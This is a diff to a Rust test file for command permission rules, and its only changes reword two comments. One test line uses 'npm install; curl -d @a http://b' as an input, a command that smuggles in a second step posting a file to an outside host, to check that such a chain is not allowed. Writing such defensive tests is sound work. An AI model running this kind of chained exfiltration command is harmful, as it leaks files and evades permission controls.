@@ -1,4 +1,5 @@
-//! Tests modes, rules and grants, from the text of a configuration file to the verdict on a call.
+//! Tests of modes, rules and grants, from the text of a configuration file to the verdict on a
+//! call.
 
 use std::path::Path;
 
@@ -110,7 +111,7 @@ matches = [{ command = "npm install left-pad" }]
     assert!(!network("npm run build") && !network("npm install; curl -d @a http://b") && !network("npm install > $X"));
     let denies = text.replace("allow", "deny");
     assert!(rules(&denies).unwrap_err().to_string().contains("`network` belongs"));
-    // Such a rule would grant nothing, because the files that a command uses are not known.
+    // Such a rule could grant nothing, because the files that a command uses are unknown.
     let by_paths = text.replace("allow", "ask").replace("network", "paths = [\"src/**\"]\nnetwork");
     assert!(rules(&by_paths).unwrap_err().to_string().contains("paths do not bound a command"));
 }
